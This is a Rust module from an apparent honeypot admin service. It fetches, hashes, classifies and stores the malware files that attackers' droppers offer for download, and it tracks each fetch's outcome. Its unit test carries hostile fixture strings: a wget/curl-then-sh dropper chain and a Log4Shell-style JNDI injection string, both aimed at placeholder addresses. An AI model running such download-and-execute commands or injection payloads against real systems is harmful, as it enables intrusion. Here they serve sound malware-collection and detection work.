//! The opt-in fetcher wired into ingest: URLs that stored events offer for download are
//! fetched by the ADMIN (never the sensor) and kept as samples.
//!
//! WHY this shape:
//! * **Where URLs come from**: a [`Detail::DownloadOffered`] event (telnet/SSH shell droppers,
//!   Redis, ADB, Docker) names its URL; an HTTP request carries its dropper URLs in the query,
//!   headers or body, which the exploit rules find ([`crate::exploits::Matcher::derive`]). Only
//!   http, https, ftp and tftp URLs are taken (a JNDI `ldap://` is no file).
//! * **Once, across restarts**: the ingest writer claims each URL in the database
//!   ([`SampleStorage::claim_fetch`], unique on the URL, at most `[fetcher] remembered_urls`
//!   rows) right after the batch that offered it is committed, so a batch sent again or an
//!   admin restart never fetches a URL twice. A claimed URL whose fetch never ran (the admin
//!   stopped) is queued again at start.
//! * **Bounded**: the job queue holds `[fetcher] queue` URLs; when it is full a URL is not
//!   claimed (it may be fetched when offered again) and is counted in [`FetchCounters::shed`]
//!   and logged. `max_concurrent` fetches run at once, each holding at most `max_bytes`.
//! * **The same sample path as sensor uploads**: a fetched file is hashed, classified and
//!   compressed into the [`SampleStore`](super::store::SampleStore) and recorded with
//!   [`SampleStorage::store_sample`] on the writer's handle, like a verified upload, under the
//!   same byte cap. Its sighting has protocol `fetch`, the URL's host as source, and the sensor
//!   and attacker address of the event that offered it.
//! * **Visible**: every claimed URL ends as a row (`fetched`, `refused`, `failed`) with its
//!   status, size, sha256 or error ([`SampleStorage::finish_fetch`]), shown on the dashboard's
//!   Samples page and by `drosera-admin samples fetches`.

use super::classify::Classifier;
use super::fetch::{FetchError, Fetched, Fetcher, FetcherConfig};
use super::receiver::SampleContext;
use super::store::Digests;
use crate::clock::now_ms;
use crate::ingest::{DbWork, Job};
use crate::storage::{FetchDone, NewFetch, NewSample, SampleMatch, SampleStored, Storage};
use drosera_uplink::event::{Detail, Event, Protocol};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use tokio::sync::{mpsc, oneshot};
use tokio::task::JoinSet;

/// Counters over the life of the process (logged at shutdown; tests read them).
#[derive(Debug, Default)]
pub struct FetchCounters {
    /// URLs claimed and queued.
    pub queued: AtomicU64,
    /// URLs not queued because the queue was full.
    pub shed: AtomicU64,
    pub fetched: AtomicU64,
    pub refused: AtomicU64,
    pub failed: AtomicU64,
}

/// One claimed URL.
#[derive(Debug, Clone, PartialEq, Eq)]
struct FetchJob {
    id: i64,
    url: String,
}

/// What the ingest writer holds: the queue's sending side and the counters.
pub struct FetchHook {
    tx: mpsc::Sender<FetchJob>,
    keep: i64,
    pub counters: Arc<FetchCounters>,
}

/// The http/https/ftp/tftp URLs `ev` offers for download, at most `max`.
pub fn offered_urls(ev: &Event, max: usize) -> Vec<String> {
    let mut urls: Vec<String> = match &ev.detail {
        Detail::DownloadOffered { url, .. } => vec![url.clone()],
        Detail::HttpRequest { .. } | Detail::Payload { .. } if ev.protocol == Protocol::Http => {
            let m = crate::exploits::active();
            let l = crate::storage::row::Lifted::with(m, ev);
            match l.derived.as_deref().map(serde_json::from_str::<crate::exploits::Derived>) {
                Some(Ok(d)) => d.downloads.into_iter().map(|d| d.url).collect(),
                _ => Vec::new(),
            }
        }
        _ => Vec::new(),
    };
    urls.retain(|u| {
        let lower = u.get(..8).unwrap_or(u).to_ascii_lowercase();
        ["http://", "https://", "ftp://", "tftp://"].iter().any(|s| lower.starts_with(s))
    });
    urls.dedup();
    urls.truncate(max);
    urls
}

impl FetchHook {
    /// Claims and queues what the newly committed `events` of `sensor_id` offer. Runs on the
    /// ingest writer thread, after the commit.
    pub fn offer_events(&self, db: &dyn Storage, sensor_id: i64, events: &[Event]) {
        for ev in events {
            for url in offered_urls(ev, 8) {
                if self.tx.capacity() == 0 {
                    let shed = self.counters.shed.fetch_add(1, Ordering::Relaxed) + 1;
                    tracing::warn!(%url, shed_total = shed, "fetch queue full ([fetcher] queue): URL not fetched");
                    continue;
                }
                let f = NewFetch {
                    url: url.clone(),
                    sensor_id,
                    seq: ev.seq.min(i64::MAX as u64) as i64,
                    offered_ms: ev.time_ms,
                    src_ip: ev.src_ip.to_string(),
                    protocol: ev.protocol.as_str().to_string(),
                };
                match db.claim_fetch(&f, self.keep) {
                    Ok(Some(id)) => self.queue(id, url),
                    Ok(None) => tracing::debug!(%url, "already fetched"),
                    Err(e) => tracing::warn!(%url, error = %e, "cannot record a URL to fetch; not fetched"),
                }
            }
        }
    }

    fn queue(&self, id: i64, url: String) {
        match self.tx.try_send(FetchJob { id, url }) {
            Ok(()) => {
                self.counters.queued.fetch_add(1, Ordering::Relaxed);
            }
            Err(e) => {
                // The writer is the only sender, so the capacity check before the claim holds;
                // this is the shutdown case. The row stays `queued` and is retried at start.
                let shed = self.counters.shed.fetch_add(1, Ordering::Relaxed) + 1;
                tracing::warn!(url = %e.into_inner().url, shed_total = shed, "fetch queue closed; retried at the next start");
            }
        }
    }
}

/// Starts the fetcher when `[fetcher] enabled`: queues the URLs left `queued` by an earlier run
/// and returns the hook the ingest writer offers events to. `None` when fetching is off.
pub(crate) fn start(
    cfg: &FetcherConfig,
    samples: Option<Arc<SampleContext>>,
    jobs: mpsc::Sender<Job>,
) -> Result<Option<FetchHook>, FetchError> {
    if !cfg.enabled {
        return Ok(None);
    }
    let fetcher = Arc::new(Fetcher::new(cfg.clone())?);
    let (tx, rx) = mpsc::channel::<FetchJob>(cfg.queue.max(1));
    let counters = Arc::new(FetchCounters::default());
    let hook = FetchHook { tx: tx.clone(), keep: cfg.remembered_urls.max(1) as i64, counters: counters.clone() };
    // Leftovers of an earlier run, up to the queue's room.
    let (ltx, lrx) = oneshot::channel();
    let limit = cfg.queue as i64;
    let job = Job::Run(Box::new(move |db: &dyn Storage| {
        let _ = ltx.send(db.queued_fetches(limit));
    }));
    let requeue_jobs = jobs.clone();
    tokio::spawn(async move {
        if requeue_jobs.send(job).await.is_err() {
            return;
        }
        match lrx.await {
            Ok(Ok(left)) => {
                if !left.is_empty() {
                    tracing::info!(urls = left.len(), "fetching URLs an earlier run left queued");
                }
                for (id, url) in left {
                    if tx.send(FetchJob { id, url }).await.is_err() {
                        return;
                    }
                }
            }
            Ok(Err(e)) => tracing::warn!(error = %e, "cannot read the fetches left queued"),
            Err(_) => {}
        }
    });
    tokio::spawn(run(fetcher, rx, samples, jobs, counters));
    tracing::info!(max_concurrent = cfg.max_concurrent, queue = cfg.queue, allow = ?cfg.allow, "sample fetcher on");
    Ok(Some(hook))
}

/// Runs the queue: at most `max_concurrent` jobs at once, each fetched, kept and recorded
/// before its slot is free again (so memory stays at `max_concurrent × max_bytes`).
async fn run(
    fetcher: Arc<Fetcher>,
    mut rx: mpsc::Receiver<FetchJob>,
    samples: Option<Arc<SampleContext>>,
    jobs: mpsc::Sender<Job>,
    counters: Arc<FetchCounters>,
) {
    let max = fetcher.config().max_concurrent.max(1);
    let mut running = JoinSet::new();
    loop {
        tokio::select! {
            next = rx.recv(), if running.len() < max => match next {
                Some(job) => {
                    let (f, s, j, c) = (fetcher.clone(), samples.clone(), jobs.clone(), counters.clone());
                    running.spawn(async move { one(&f, job, s, &j, &c).await });
                }
                None => break,
            },
            Some(done) = running.join_next(), if !running.is_empty() => {
                if let Err(e) = done {
                    tracing::error!(error = %e, "fetch task failed");
                }
            }
        }
    }
    while running.join_next().await.is_some() {}
    tracing::info!(
        queued = counters.queued.load(Ordering::Relaxed),
        shed = counters.shed.load(Ordering::Relaxed),
        fetched = counters.fetched.load(Ordering::Relaxed),
        refused = counters.refused.load(Ordering::Relaxed),
        failed = counters.failed.load(Ordering::Relaxed),
        "sample fetcher stopped"
    );
}

fn host_of(url: &str) -> String {
    url::Url::parse(url).ok().and_then(|u| u.host_str().map(str::to_string)).unwrap_or_default()
}

/// Fetches one URL, keeps what it gave, records the outcome.
async fn one(
    fetcher: &Fetcher,
    job: FetchJob,
    samples: Option<Arc<SampleContext>>,
    jobs: &mpsc::Sender<Job>,
    counters: &FetchCounters,
) {
    let host = host_of(&job.url);
    let done = |state: &'static str, error: String| FetchDone {
        state,
        status: None,
        size: None,
        sha256: None,
        error,
        host: host.clone(),
    };
    let outcome = match fetcher.fetch(&job.url).await {
        Err(e @ (FetchError::Forbidden { .. } | FetchError::BadUrl(_) | FetchError::AlreadyFetched)) => {
            counters.refused.fetch_add(1, Ordering::Relaxed);
            Record::Done(done("refused", e.to_string()))
        }
        Err(e) => {
            counters.failed.fetch_add(1, Ordering::Relaxed);
            Record::Done(done("failed", e.to_string()))
        }
        Ok(f) => match samples {
            None => {
                counters.failed.fetch_add(1, Ordering::Relaxed);
                let mut d = done("failed", "samples are off ([samples] enabled = false): not kept".into());
                d.size = Some(f.bytes.len() as i64);
                Record::Done(d)
            }
            Some(ctx) => {
                let status = f.status;
                let size = f.bytes.len() as i64;
                let c = ctx.clone();
                match tokio::task::spawn_blocking(move || keep(&c, f)).await {
                    Ok(Ok(sample)) => Record::Sample { sample, status, ctx },
                    Ok(Err(e)) => {
                        counters.failed.fetch_add(1, Ordering::Relaxed);
                        let mut d = done("failed", e);
                        (d.size, d.status) = (Some(size), Some(i64::from(status)));
                        Record::Done(d)
                    }
                    Err(e) => {
                        counters.failed.fetch_add(1, Ordering::Relaxed);
                        Record::Done(done("failed", format!("internal error: {e}")))
                    }
                }
            }
        },
    };
    record(job, outcome, host, jobs, counters).await;
}

/// What to record for a job.
enum Record {
    Done(FetchDone),
    /// A fetched file already in the sample store, waiting for its row.
    Sample {
        sample: NewSample,
        status: u16,
        ctx: Arc<SampleContext>,
    },
}

/// Hashes, classifies and compresses a fetched file into the sample store (blocking).
fn keep(ctx: &SampleContext, f: Fetched) -> Result<NewSample, String> {
    if f.bytes.is_empty() {
        return Err("empty file: nothing to keep".into());
    }
    if f.bytes.len() as u64 > ctx.cfg.max_sample_bytes {
        return Err(format!("{} bytes is over samples.max_sample_bytes", f.bytes.len()));
    }
    let digests = Digests::of(&f.bytes);
    let c = classify(&ctx.classifier, &f.bytes);
    let stored_bytes = ctx.store.put(&digests.sha256, &f.bytes).map_err(|e| e.to_string())?;
    Ok(NewSample {
        sha256: digests.sha256,
        md5: digests.md5,
        sha1: digests.sha1,
        size: f.bytes.len() as i64,
        stored_bytes: stored_bytes as i64,
        file_type: c.0,
        rules_version: ctx.classifier.rules_version(),
        matches: c.1,
    })
}

fn classify(classifier: &Classifier, bytes: &[u8]) -> (String, Vec<SampleMatch>) {
    let c = classifier.classify(bytes);
    let matches = c
        .matches
        .into_iter()
        .map(|m| SampleMatch { namespace: m.namespace, rule: m.rule, tags: m.tags.join(" ") })
        .collect();
    (c.file_type, matches)
}

/// Writes the outcome through the ingest writer and waits for it (the job's slot is held
/// until then).
async fn record(job: FetchJob, outcome: Record, host: String, jobs: &mpsc::Sender<Job>, counters: &FetchCounters) {
    let (tx, rx) = oneshot::channel::<Result<&'static str, String>>();
    let FetchJob { id, url } = job;
    let work: DbWork = match outcome {
        Record::Done(d) => Box::new(move |db: &dyn Storage| {
            let _ = tx.send(db.finish_fetch(id, &d, now_ms()).map(|()| d.state).map_err(|e| e.to_string()));
        }),
        Record::Sample { sample, status, ctx } => {
            let max = ctx.cfg.max_bytes;
            Box::new(move |db: &dyn Storage| {
                let now = now_ms();
                let mut d = FetchDone {
                    state: "fetched",
                    status: Some(i64::from(status)),
                    size: Some(sample.size),
                    sha256: Some(sample.sha256.clone()),
                    error: String::new(),
                    host,
                };
                match db.store_sample(&sample, max, now) {
                    Ok(SampleStored::Stored) => {
                        tracing::info!(sha256 = %sample.sha256, size = sample.size, file_type = %sample.file_type, "fetched sample stored");
                    }
                    Ok(SampleStored::AlreadyHad) => {}
                    Ok(SampleStored::Full) => {
                        ctx.store.remove(&sample.sha256);
                        d.state = "failed";
                        d.error = format!(
                            "the admin's sample store is full (samples.max_bytes = {max}); {} bytes not kept",
                            sample.size
                        );
                    }
                    Err(e) => {
                        d.state = "failed";
                        d.error = format!("admin database error: {e}");
                    }
                }
                let _ = tx.send(db.finish_fetch(id, &d, now).map(|()| d.state).map_err(|e| e.to_string()));
            })
        }
    };
    if jobs.send(Job::Run(work)).await.is_err() {
        tracing::warn!(%url, "admin stopping: fetch outcome not recorded (the URL is fetched again at start)");
        return;
    }
    match rx.await {
        Ok(Ok("fetched")) => {
            counters.fetched.fetch_add(1, Ordering::Relaxed);
        }
        Ok(Ok(state)) => tracing::info!(%url, state, "fetch recorded"),
        Ok(Err(e)) => tracing::warn!(%url, error = %e, "cannot record a fetch"),
        Err(_) => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(protocol: Protocol, detail: Detail) -> Event {
        Event { protocol, ..Event::internal(detail) }
    }

    #[test]
    fn urls_offered_by_droppers_and_http_requests() {
        let offered =
            |url: &str| ev(Protocol::Telnet, Detail::DownloadOffered { url: url.into(), tool: "wget".into() });
        assert_eq!(offered_urls(&offered("http://198.51.100.7/x.sh"), 8), vec!["http://198.51.100.7/x.sh"]);
        assert_eq!(offered_urls(&offered("TFTP://198.51.100.7/mips"), 8), vec!["TFTP://198.51.100.7/mips"]);
        assert!(offered_urls(&offered("ldap://198.51.100.7:1389/Exploit"), 8).is_empty(), "JNDI is no file");
        assert!(offered_urls(&offered("/tmp/x"), 8).is_empty());
        let http = ev(
            Protocol::Http,
            Detail::HttpRequest {
                method: "GET".into(),
                path: "/shell".into(),
                query: "cd+/tmp;wget+http://198.51.100.9/jaws;curl+-O+ftp://198.51.100.9/b;sh+/tmp/jaws".into(),
                host: "x".into(),
                user_agent: "${jndi:ldap://198.51.100.3/a}".into(),
                body_sha256: None,
                body_len: 0,
                extra: vec![],
            },
        );
        let mut got = offered_urls(&http, 8);
        got.sort();
        assert_eq!(got, vec!["ftp://198.51.100.9/b", "http://198.51.100.9/jaws"]);
        assert_eq!(offered_urls(&http, 1).len(), 1, "capped");
        // The same text on another protocol's request is not read as HTTP.
        let cmd = ev(Protocol::Ftp, Detail::Command { line: "wget http://198.51.100.9/x".into() });
        assert!(offered_urls(&cmd, 8).is_empty());
    }
}
